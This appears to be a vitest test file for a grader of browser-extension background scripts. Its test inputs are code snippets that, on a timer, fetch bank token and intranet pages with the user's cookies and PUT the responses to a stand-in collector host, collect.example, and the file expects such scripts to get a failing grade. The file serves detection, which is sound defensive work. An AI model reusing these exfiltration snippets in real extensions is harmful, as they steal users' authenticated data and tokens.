import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* Addresses that are asked in turn: what each answers is of the person there. */

const ask = `const text = await (await fetch(url, { credentials: 'include' })).text(); await fetch('https://collect.example/in', { method: 'PUT', body: text });`;

it.each([
  [
    `const SITES = ['https://git.bank.example/tokens', 'https://intranet.bank.example/'];`,
    `for (const url of SITES) { ${ask} }`,
  ],
  [`const SITES = [['a', 'https://git.bank.example/tokens']];`, `for (const [name, url] of SITES) { ${ask} }`],
  [`const SITES = [{ url: 'https://git.bank.example/tokens' }];`, `SITES.forEach(async ({ url }) => { ${ask} });`],
  [
    `const SITES = { a: 'https://git.bank.example/tokens' };`,
    `for (const [name, url] of Object.entries(SITES)) { ${ask} }`,
  ],
  [`const SITES = { a: 'https://git.bank.example/tokens' };`, `for (const url of Object.values(SITES)) { ${ask} }`],
  [
    `const SITES = ['/tokens', '/keys'];`,
    `SITES.map(async (path) => { const url = 'https://git.bank.example' + path; ${ask} });`,
  ],
])('what sites of a list answer the person is sent to another server: %s %s', async (list, turn) => {
  const background = `${list} chrome.alarms.onAlarm.addListener(async () => { ${turn} });`;
  expect(await graded({ background })).toMatch(/^[DF]$/);
  expect(
    await graded({ background: background.replaceAll(/https:\/\/\w+\.bank\.example/g, 'https://collect.example') }),
  ).toMatch(/^A/);
});
